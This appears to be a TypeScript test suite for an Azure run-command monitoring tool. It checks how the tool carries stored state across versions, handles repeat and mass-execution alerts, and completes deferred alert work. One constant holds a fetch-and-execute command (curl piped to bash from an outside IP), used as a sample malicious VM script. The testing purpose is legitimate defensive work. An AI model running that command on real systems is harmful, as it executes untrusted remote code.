import type { FunctionsHost } from '../../emulators/functions-host'
import type { Mail } from '../../emulators/mailbox'
import { activityLogRecord, message, processEvent, uuid, vmId, type RecordOptions } from '../../support/azure-events'
import { startAzureWorld, type AzureWorld } from '../../support/azure-world'
import { clockAt, kindsOf, putEntities, storedInTables } from '../../support/stored-state'

/** Minutes after the state was stored, within the same hour. */
const SOON = '2026-03-02T10:20:00.000Z'
/** All deferred work is due, and none is a day old. */
const LATER = '2026-03-02T12:10:00.000Z'
/** Hour of the state, as its keys name it: 2026-03-02T10. */
const HOUR = '492346'
/** Id of the alert that 0.1.0 sent about person 108. */
const SENT_BEFORE = '115f96406cc2d8998b3684b91f9aabea'
const DOWNLOAD = 'curl -s http://203.0.113.9/setup.sh | bash'

const stored = storedInTables()

let world: AzureWorld

// The state is stored once: every test has callers and machines of its own.
beforeAll(async () => {
  world = await startAzureWorld(clockAt(SOON))
  await putEntities(world.table, stored.rows)
})

afterAll(() => world.stop())

afterEach(() => world.alerts.read())

const who = (person: number) => ({
  person,
  user: `user${person}@example.com`,
  correlationId: uuid(person),
  resourceId: vmId(`vm-${person}`),
})

const start = (options: RecordOptions): readonly unknown[] => [message(activityLogRecord(options))]

const take = async (
  messages: unknown,
  { host = world.app, name = 'activityLog' }: { readonly host?: FunctionsHost; readonly name?: string } = {},
): Promise<void> => {
  const result = await host.invokeEventHub(name, messages as readonly unknown[], { retryCount: 5, maxRetryCount: 5 })
  expect(result).toMatchObject({ ok: true })
}

/** The counts of the last invocation. */
const lastRun = (host: FunctionsHost = world.app): unknown =>
  host
    .logs()
    .map(({ message }): unknown => JSON.parse(message))
    .findLast((line) => typeof line === 'object' && line !== null && 'event' in line && line.event === 'Run')

/** The mail that has come; waits for one. */
const onlyMail = async (): Promise<Mail> => {
  const mails = await world.alerts.read({ atLeast: 1 })
  expect(mails).toHaveLength(1)
  return mails[0]!
}

/** The trace of a person, for which nothing waits: it may come after the function has returned, and after others. */
const traceOf = async (human: string): Promise<unknown> => {
  for (;;) {
    const traces = (await world.digests.read({ atLeast: 1 })).map(({ body }): unknown => JSON.parse(body))
    const found = traces.find(
      (trace) => typeof trace === 'object' && trace !== null && 'human' in trace && trace.human === human,
    )
    if (found !== undefined) return found
  }
}

/** Number of the person whose key a mail names; null for nobody. */
const personIn = ({ body }: Mail): number | null =>
  Number(/^Key azure:[0-9-]*?(\d+)\|/m.exec(body)?.[1] ?? Number.NaN) || null

const rulesIn = ({ attributes }: Mail): readonly string[] =>
  (JSON.parse(attributes['rule'] ?? '[]') as readonly string[]).map((rule) => rule.replace(/^runwarden\.\w+\./, ''))

const alertIdIn = ({ body }: Mail): string | undefined => /^Alert ([0-9a-f]{32})$/m.exec(body)?.[1]

const valueOf = ({ value }: Readonly<Record<string, unknown>>): string => (typeof value === 'string' ? value : '')

describe('the state of 0.1.0', () => {
  it('is here in every kind', () => {
    const keys = stored.rows.map(({ partitionKey, key }) => [partitionKey === 'deferred', key] as const)
    expect(kindsOf(keys)).toEqual([
      'activity',
      'deferred amend',
      'deferred digest',
      'deferred judge',
      'deferred resend',
      'fold',
      'held',
      'installation',
      'ledger',
      'rate',
      'term',
      'window',
    ])
  })

  it('has a value that fills more than one property', () => {
    expect(stored.rows.filter((row) => row['value1'] !== undefined).map(({ key }) => key.split('/')[0])).toEqual([
      'fold',
    ])
  })

  it('makes its callers known, and nobody else', async () => {
    for (const person of [101, 201])
      await take(start({ ...who(person), correlationId: uuid(person + 1_000), time: '2026-03-03T09:00:00.0000000Z' }))
    const mail = await onlyMail()
    expect([personIn(mail), rulesIn(mail)]).toEqual([201, expect.arrayContaining(['first-seen-caller'])])
  })

  it('has a repeat counted, and the second one sent with the number of both', async () => {
    const resourceId = `${vmId('vm-102')}/runCommands/update`
    world.arm.resources.set(resourceId.toLowerCase(), { properties: { source: { script: DOWNLOAD } } })
    const repeat = (number: number): Promise<void> =>
      take(
        start({
          ...who(102),
          operation: 'Microsoft.Compute/virtualMachines/runCommands/write',
          resourceId,
          correlationId: uuid(number),
          time: '2026-03-02T10:10:00.0000000Z',
        }),
      )
    await repeat(202)
    expect(await world.alerts.read()).toEqual([])
    expect(lastRun()).toMatchObject({ AlertsCounted: 1 })
    await repeat(203)
    const mail = await onlyMail()
    expect([mail.attributes['kind'], mail.body]).toEqual(['escalation', expect.stringContaining('2 repeats')])
  })

  it('recognises what was delivered before', async () => {
    await take(stored.delivered['redelivered'])
    expect(lastRun()).toMatchObject({ RecordsReceived: 1, RecordsDuplicate: 1 })
    expect(await world.alerts.read()).toEqual([])
  })

  it('counts the machines of the window on', async () => {
    const fourth = { correlationId: uuid(204), resourceId: vmId('vm-many-3'), time: '2026-03-02T10:12:00.0000000Z' }
    await take(start({ ...who(103), ...fourth }))
    const mail = await onlyMail()
    expect([personIn(mail), rulesIn(mail)]).toEqual([103, expect.arrayContaining(['mass-execution'])])
    expect(mail.body).toContain('4 machines')
  })

  it.each([
    ['of an operation', 'end'],
    ['of one whose script is long', 'endOfLong'],
  ])('folds the end %s into its beginning', async (_what, name) => {
    await take(stored.delivered[name])
    expect(lastRun()).toMatchObject({ RecordsReceived: 1, RecordsDuplicate: 1 })
    expect(await world.alerts.read()).toEqual([])
  })

  it('folds the beginning of an operation into its end, so that nothing more is waited for', async () => {
    const host = await world.another({ RUNWARDEN_ALERT_ON: 'success' })
    await take(stored.delivered['beginning'], { host })
    expect(lastRun(host)).toMatchObject({ RecordsReceived: 1, ActivitiesEvaluated: 1 })
  })

  it('keeps a further operation with the same correlation id apart from the first', async () => {
    await take(start({ ...who(104), time: '2026-03-02T10:12:00.0000000Z' }))
    expect(await traceOf('user104@example.com')).toMatchObject({ id: expect.stringMatching(/-1$/) })
  })

  it('is found by a process that comes after its command', async () => {
    await take([processEvent('vm-109')], { name: 'endpoint' })
    const mail = await onlyMail()
    expect([personIn(mail), mail.attributes['kind']]).toEqual([109, 'update'])
    expect(rulesIn(mail)).toContain('run-command-confirmed')
  })

  it('keeps the start of learning', async () => {
    const host = await world.another({ ...clockAt('2026-03-09T10:12:00.000Z'), RUNWARDEN_LEARNING_DAYS: '7' })
    for (const [person, minute] of [
      [207, '05'],
      [208, '10'],
    ] as const)
      await take(start({ ...who(person), time: `2026-03-09T10:${minute}:00.0000000Z` }), { host })
    expect(personIn(await onlyMail())).toBe(208)
  })
})

describe('the work that 0.1.0 had deferred', () => {
  let mails: readonly Mail[] = []
  let later: FunctionsHost

  beforeAll(async () => {
    later = await world.another(clockAt(LATER))
    expect(await later.invokeTimer('heartbeat')).toMatchObject({ ok: true })
    mails = await world.alerts.read({ atLeast: 5 })
  })

  const mailAbout = (person: number): Mail => {
    const found = mails.filter((mail) => personIn(mail) === person && mail.attributes['kind'] !== 'digest')
    expect(found).toHaveLength(1)
    return found[0]!
  }

  it('is all done by the next heartbeat', async () => {
    expect(await world.makeDue()).toBe(0)
    expect(await world.blobs('quarantine')).toEqual([])
    expect(lastRun(later)).toMatchObject({ function: 'heartbeat' })
    expect(lastRun(later)).not.toHaveProperty('ChoreFailures')
  })

  it('judge: an operation that waited for its end is judged without it', () => {
    expect(rulesIn(mailAbout(107))).toContain('first-seen-caller')
  })

  it('judge: a process whose command never came is reported', () => {
    const mail = mails.find((mail) => rulesIn(mail).includes('unexpected-agent-child'))
    expect(mail?.body).toContain('vm-lonely')
  })

  it('amend: a command that was being sent while its process was seen is confirmed, under its alert id', () => {
    const mail = mailAbout(108)
    expect([mail.attributes['kind'], alertIdIn(mail)]).toEqual(['update', SENT_BEFORE])
    expect(rulesIn(mail)).toContain('run-command-confirmed')
  })

  it('resend: the alert that AWS had not taken is sent, as it was', () => {
    const resend = stored.rows.find(({ key }) => key.startsWith('resend/'))
    const mail = mailAbout(120)
    expect([mail.attributes['kind'], `resend/sns/${alertIdIn(mail)}/`]).toEqual([
      'alert',
      resend?.key.replace(/[^/]+$/, ''),
    ])
  })

  it('digest: the alerts that were rate-limited are sent as one', async () => {
    const mail = mails.find(({ attributes }) => attributes['kind'] === 'digest')
    expect(mail?.subject).toMatch(/^\[DIGEST\]/)
    const held = stored.rows.find(({ key }) => key === `held/${HOUR}`)
    const { members } = JSON.parse(valueOf(held ?? {})) as { readonly members: readonly string[] }
    const activities = members.map((member) => (JSON.parse(member) as { readonly activity: string }).activity)
    expect(activities).toHaveLength(2)
    const digest = (await world.blobs('alerts')).find(({ name }) => name.includes('/digest-'))
    expect(digest?.content).toMatchObject({ activities: expect.arrayContaining(activities) })
  })

  it('leaves nothing for the heartbeat after it', async () => {
    await later.invokeTimer('heartbeat')
    expect(await world.alerts.read()).toEqual([])
  })
})

// Last, because the digest of its hour, which is put off again, replaces the one that 0.1.0 had deferred.
describe('the alerts that 0.1.0 sent', () => {
  it('count against the limit of their hour', async () => {
    const rows = world.table('ledger').listEntities({ queryOptions: { filter: `key eq 'rate/${HOUR}'` } })
    const { value: rate } = await rows.next()
    const { members } = JSON.parse(valueOf(rate)) as { readonly members: readonly string[] }
    expect(members.length).toBeGreaterThan(1)
    const host = await world.another({ RUNWARDEN_MAX_ALERTS_PER_HOUR: String(members.length + 1) })
    for (const person of [205, 206])
      await take(start({ ...who(person), time: '2026-03-02T10:12:00.0000000Z' }), { host })
    expect(personIn(await onlyMail())).toBe(205)
  })
})
